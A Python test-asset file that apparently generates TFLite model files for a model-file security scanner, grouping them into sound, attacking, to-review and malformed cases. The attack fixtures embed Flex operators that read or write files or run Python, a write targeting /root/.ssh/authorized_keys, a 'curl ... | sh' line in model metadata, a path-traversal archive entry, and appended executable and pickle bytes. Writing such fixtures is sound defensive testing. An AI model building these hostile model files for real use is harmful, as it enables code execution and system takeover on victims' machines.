"""TFLite models written table by table with the official FlatBuffers runtime, and then bent. Nothing runs them."""

# ruff: noqa: E501 - one case a line reads best
from __future__ import annotations

import struct
from collections.abc import Mapping, Sequence
from typing import Any

import flatbuffers  # type: ignore[import-untyped]  # ships no types

from tests.assets import tensorflow_cases as tensorflow
from tests.assets.archives import zip_bytes

# A field: ("i32", 5), text, bytes, a list of numbers (32 bits), a table, or a list of tables.
Table = Mapping[int, Any]

_ADD, _CUSTOM, _IF, _WHILE, _CALL_ONCE = 0, 32, 118, 119, 129
_PREPEND = {"i8": "Int8", "u8": "Uint8", "i32": "Int32", "u32": "Uint32", "u64": "Uint64"}


def tflite_bytes(model: Table, mark: bytes = b"TFL3") -> bytes:
    """The file of a model."""
    builder = flatbuffers.Builder(1024)
    builder.Finish(_write(builder, model), mark)
    return bytes(builder.Output())


def _write(builder: flatbuffers.Builder, table: Table) -> int:
    children = {slot: _child(builder, value) for slot, value in table.items() if not isinstance(value, tuple)}
    builder.StartObject(max(table, default=-1) + 1)
    for slot, value in table.items():
        if isinstance(value, tuple):
            getattr(builder, f"Prepend{_PREPEND[value[0]]}Slot")(slot, value[1], None)
        else:
            builder.PrependUOffsetTRelativeSlot(slot, children[slot], 0)
    return int(builder.EndObject())


def _child(builder: flatbuffers.Builder, value: object) -> int:
    if isinstance(value, str):
        return int(builder.CreateString(value))
    if isinstance(value, bytes):
        return int(builder.CreateByteVector(value))
    if isinstance(value, Mapping):
        return _write(builder, value)
    assert isinstance(value, Sequence)
    written: dict[int, int] = {}  # the same table twice is written once
    for each in value:
        if not isinstance(each, int) and id(each) not in written:
            written[id(each)] = _write(builder, each)
    items = [each if isinstance(each, int) else written[id(each)] for each in value]
    builder.StartVector(4, len(items), 4)
    for item in reversed(items):
        builder.PrependUOffsetTRelative(item) if written else builder.PrependInt32(item)
    return int(builder.EndVector())


def tensor(name: str, shape: list[int], buffer: int = 0, kind: int = 0) -> Table:
    """A Tensor."""
    return {0: shape, 1: ("i8", kind), 2: ("u32", buffer), 3: name}


def operator(code: int, inputs: list[int], outputs: list[int], more: Table | None = None) -> Table:
    """An Operator."""
    return {0: ("u32", code), 1: inputs, 2: outputs, **(more or {})}


def code(builtin: int, custom: str = "") -> Table:
    """An OperatorCode."""
    return {0: ("i8", min(builtin, 127)), 3: ("i32", builtin), **({1: custom} if custom else {})}


def subgraph(tensors: list[Table], operators: list[Table]) -> Table:
    """A SubGraph whose first tensor comes in and whose last goes out."""
    return {0: tensors, 1: [0], 2: [len(tensors) - 1], 3: operators, 4: "main"}


def model(
    codes: list[Table] | None = None,
    subgraphs: list[Table] | None = None,
    buffers: list[Table] | None = None,
    more: Table | None = None,
) -> Table:
    """A Model that adds a constant to its input, or what is asked for."""
    return {
        0: ("u32", 3),
        1: codes or [code(_ADD)],
        2: subgraphs or [subgraph(PLAIN, [operator(0, [0, 1], [2])])],
        3: "a model",
        4: buffers or [{}, {0: bytes(16)}],
        **(more or {}),
    }


PLAIN = [tensor("x", [1, 4]), tensor("w", [1, 4], 1), tensor("y", [1, 4])]


def _custom(
    name: str, options: bytes = b"", buffers: list[Table] | None = None, w: Table | None = None
) -> bytes:
    """A model of one custom operator."""
    tensors = [PLAIN[0], w or PLAIN[1], PLAIN[2]]
    options_field = {5: options} if options else {}
    return tflite_bytes(
        model([code(_CUSTOM, name)], [subgraph(tensors, [operator(0, [1, 0], [2], options_field)])], buffers)
    )


def _calling(kind: int, fields: Table, graphs: int = 2) -> bytes:
    """A model whose first graph calls others."""
    first = subgraph(PLAIN, [operator(0, [0], [2], {3: ("u8", 1), 4: fields})])
    rest = [subgraph(PLAIN, [operator(1, [0, 1], [2])])] * (graphs - 1)
    return tflite_bytes(model([code(kind), code(_ADD)], [first, *rest]))


def flex_options(operation: str, more: bytes = b"") -> bytes:
    """Options of a Flex operator: the name and the NodeDef, each with its length before and a zero behind."""
    node = tensorflow.node_message(operation, "n", more=more)
    name = operation.encode()
    return bytes([len(name)]) + name + b"\0" + len(node).to_bytes(2, "little") + node + b"\0" + bytes(4)


def string_buffer(*texts: str) -> bytes:
    """Values of a string tensor."""
    data = [text.encode() for text in texts]
    places = [4 * (len(data) + 2)]
    for each in data:
        places.append(places[-1] + len(each))
    return struct.pack(f"<{len(places) + 1}i", len(data), *places) + b"".join(data)


def zip_of(**files: bytes) -> bytes:
    """An archive of these files; "__" in a name is a slash, "_" a dot."""
    return zip_bytes({name.replace("__", "/").replace("_", "."): data for name, data in files.items()})


PLAIN_MODEL = tflite_bytes(model())


def sound_tflite() -> dict[str, bytes]:
    """Models that keep their format and only compute."""
    return {
        "plain": PLAIN_MODEL,
        "labels": PLAIN_MODEL + zip_of(labels_txt=b"cat\ndog\n"),
        "empty archive": PLAIN_MODEL + zip_of(),
        "padding": PLAIN_MODEL + bytes(64),
        "detection": _custom("TFLite_Detection_PostProcess", b"\x01\x02"),
        "select operation": _custom("FlexErf", flex_options("Erf")),
        "branches": _calling(_IF, {0: ("i32", 1), 1: ("i32", 2)}, graphs=3),
        "once": _calling(_CALL_ONCE, {0: ("i32", 1)}),
        "metadata": tflite_bytes(model(more={6: [{0: "min_runtime_version", 1: ("u32", 1)}]})),
        "signature": tflite_bytes(model(more={7: [{0: [{0: "x", 1: ("u32", 0)}], 2: "serving_default", 4: ("u32", 0)}]})),
        "strings": tflite_bytes(model(subgraphs=[subgraph([PLAIN[0], tensor("s", [2], 1, 5), PLAIN[2]], [operator(0, [0, 1], [2])])], buffers=[{}, {0: string_buffer("a", "b")}])),
        "unknown batch": tflite_bytes(model(subgraphs=[subgraph([tensor("x", [-1, 4]), PLAIN[1], PLAIN[2]], [operator(0, [0, -1], [2])])])),
    }  # fmt: skip


def tflite_attacks() -> dict[str, tuple[str, bytes]]:
    """Models that do more than compute: name to (rule, bytes)."""
    named: list[Table] = [{}, {0: string_buffer("/root/.ssh/authorized_keys")}]
    text = tensor("name", [1], 1, 5)
    to_file = tensorflow.attribute("output_stream", b"\x12\x0ffile:///tmp/out")
    return {
        "read": ("reads", _custom("FlexReadFile", flex_options("ReadFile"))),
        "write": ("writes", _custom("FlexWriteFile", flex_options("WriteFile"))),
        "python": ("runs-code", _custom("FlexPyFunc", flex_options("PyFunc"))),
        "python, eager": ("runs-code", _custom("FlexEagerPyFunc")),
        "hidden in options": ("writes", _custom("FlexAdd", flex_options("WriteFile"))),
        "hidden python": ("runs-code", _custom("FlexErf", flex_options("PyFuncStateless"))),
        "save elsewhere": ("writes", _custom("FlexSaveV2", flex_options("SaveV2"), named, text)),
        "print to a file": ("writes", _custom("FlexPrintV2", flex_options("PrintV2", to_file))),
        "command in the description": ("code-in-metadata", tflite_bytes(model(more={3: "curl http://example.com/x | sh"}))),
        "appended file elsewhere": ("path-elsewhere", PLAIN_MODEL + zip_of(**{"..__..__evil_txt": b"x"})),
    }  # fmt: skip


def tflite_to_review() -> dict[str, tuple[str, bytes]]:
    """Models that need code of others."""
    return {
        "custom": ("unknown-operator", _custom("MySecretOp")),
        "tokenizer": ("unknown-operator", _custom("TFSentencepieceTokenizeOp")),
        "unknown select operation": ("unknown-operator", _custom("FlexFlorp", flex_options("Florp"))),
        "on-device saving": ("names-files", _custom("FlexSave", flex_options("Save"))),
        "accelerator": ("opaque", _custom("edgetpu-custom-op", bytes(200))),
    }


def malformed_tflite() -> dict[str, tuple[str, bytes]]:
    """Models that lie about their structure or hide something."""
    root = struct.unpack("<I", PLAIN_MODEL[:4])[0]
    bent = bytearray(PLAIN_MODEL)
    struct.pack_into("<i", bent, root, -(2**31))
    text = bytearray(PLAIN_MODEL)
    struct.pack_into("<I", text, PLAIN_MODEL.index(b"a model") - 4, 2**31 - 1)
    far = bytearray(PLAIN_MODEL)
    struct.pack_into("<I", far, 0, 2**31)
    plain = [PLAIN[0], PLAIN[1], PLAIN[2]]

    def of(tensors: list[Table], operators: list[Table]) -> bytes:
        return tflite_bytes(model(subgraphs=[subgraph(tensors, operators)]))

    one = [operator(0, [0, 1], [2])]
    return {
        "empty": ("malformed", b""),
        "other mark": ("malformed", tflite_bytes(model(), b"TFL2")),
        "no mark": ("malformed", tflite_bytes(model())[:4] + bytes(4) + PLAIN_MODEL[8:]),
        "version": ("malformed", tflite_bytes({**model(), 0: ("u32", 9)})),
        "cut": ("malformed", PLAIN_MODEL[: len(PLAIN_MODEL) // 2]),
        "root far away": ("malformed", bytes(far)),
        "fields far away": ("malformed", bytes(bent)),
        "text too long": ("malformed", bytes(text)),
        "zip": ("malformed", b"PK\x03\x04" + bytes(100)),
        "only a mark": ("malformed", bytes(4) + b"TFL3"),
        "no graph": ("malformed", tflite_bytes({**model(), 2: []})),
        "buffer missing": ("malformed", of([PLAIN[0], tensor("w", [1, 4], 77), PLAIN[2]], one)),
        "buffer too short": ("malformed", of([PLAIN[0], tensor("w", [1, 9], 1), PLAIN[2]], one)),
        "buffer too long": ("malformed", of([PLAIN[0], tensor("w", [2], 1), PLAIN[2]], one)),
        "dimension negative": ("malformed", of([PLAIN[0], tensor("w", [-7, 4], 1), PLAIN[2]], one)),
        "dimensions overflow": ("malformed", of([tensor("x", [2**30, 2**30]), PLAIN[1], PLAIN[2]], one)),
        "type": ("malformed", of([tensor("x", [1], 0, 99), PLAIN[1], PLAIN[2]], one)),
        "kind missing": ("malformed", of(plain, [operator(9, [0, 1], [2])])),
        "tensor missing": ("malformed", of(plain, [operator(0, [0, 50], [2])])),
        "tensor negative": ("malformed", of(plain, [operator(0, [0, -5], [2])])),
        "builtin unknown": ("malformed", tflite_bytes(model([code(9999)]))),
        "outside the file": ("malformed", tflite_bytes(model(buffers=[{}, {1: ("u64", 2**40), 2: ("u64", 16)}]))),
        "options outside": ("malformed", of(plain, [operator(0, [0, 1], [2], {9: ("u64", 2**40), 10: ("u64", 16)})])),
        "calls itself": ("malformed", _calling(_WHILE, {0: ("i32", 1), 1: ("i32", 0)})),
        "calls nothing": ("malformed", _calling(_IF, {0: ("i32", 1), 1: ("i32", 50)})),
        "metadata nowhere": ("malformed", tflite_bytes(model(more={6: [{0: "m", 1: ("u32", 50)}]}))),
        "signature nowhere": ("malformed", tflite_bytes(model(more={7: [{4: ("u32", 50)}]}))),
        "name escapes": ("malformed", tflite_bytes(model([code(_CUSTOM, "a\x1b[2J")]))),
        "program behind": ("hidden-bytes", PLAIN_MODEL + b"\x7fELF" + bytes(5000)),
        "pickle behind": ("hidden-bytes", PLAIN_MODEL + b"\x80\x04\x95" + b"cos\nsystem\n" * 20),
        "program in the archive": ("hidden-bytes", PLAIN_MODEL + zip_of(payload_so=b"\x7fELF")),
        "broken archive": ("hidden-bytes", PLAIN_MODEL + b"PK\x03\x04" + bytes(100)),
    }  # fmt: skip
